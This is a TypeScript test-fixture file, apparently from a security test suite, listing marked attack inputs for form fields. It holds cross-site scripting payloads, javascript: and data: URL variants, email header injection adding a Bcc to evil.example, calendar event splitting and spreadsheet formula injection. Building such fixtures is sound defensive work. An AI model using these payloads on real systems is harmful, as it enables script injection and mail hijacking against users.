// What an attacker types into forms: markup for every place in a page, addresses that run, lines that begin something new.

/** What each kind of field is given. Each text carries the mark, so that it is found again wherever it is shown. */
export interface Corpus {
  line: string
  text: string
  web: string
  mail: string
}

/** Stands in every text of the corpus: who looks for it knows where such a text was shown. */
export const mark = 'q7z'

/** The names of tags, attributes and lines that no page, feed, calendar or mail has but by an attack. */
export const planted = 'xss-live'

const tag = `<${planted} xss-on=1 onload=folk()>`

export const corpora = {
  markup: {
    line: `${mark}"'>${tag}</title></textarea></script>--><script>folk()</script>`,
    text: `${mark}"'>${tag}</textarea></script>-->]]><script>folk()</script>\n\n<iframe srcdoc="<script>folk()</script>"></iframe>\n\n<svg><a xlink:href="javascript:folk()">b</a></svg> <math href="javascript:folk()">\n\n<img src=x onerror=folk()> <p style="background:url(javascript:folk())">\n\n\`\`\`"><${planted}>\nx\n\`\`\`\n\n[c](https://evil.example/"onmouseover="folk()) ![d](https://evil.example/d.png "\\"onload=folk()")`,
    web: `https://evil.example/${mark}"'>${tag}`,
    mail: 'guest@example.org',
  },
  addresses: {
    line: `javascript:folk()//${mark}`,
    text: `${mark} [a](javascript:folk()) [b](JaVaScRiPt:folk()) [c](java\tscript:folk()) [d](&#106;avascript:folk()) <javascript:folk()> [e](data:text/html,<script>folk()</script>) [f](vbscript:folk()) ![g](javascript:folk()) [h]\n\n[h]: javascript:folk()\n\n<a href=" &#1;javascript:folk()">i</a>`,
    web: `javascript:folk()//${mark}`,
    mail: `"<${planted}>"@evil.example`,
  },
  lines: {
    line: `=1+1|${mark}\r\nBcc: planted@evil.example\r\n${planted}: 1`,
    text: `=1+1|${mark}\r\n.\r\nBcc: planted@evil.example\r\nEND:VEVENT\r\n${planted}:1\r\nBEGIN:VEVENT\r\n@SUM(1)`,
    web: `https://evil.example/${mark}\r\nBcc:planted@evil.example`,
    mail: 'guest@example.org\r\nBcc: planted@evil.example',
  },
} as const satisfies Record<string, Corpus>
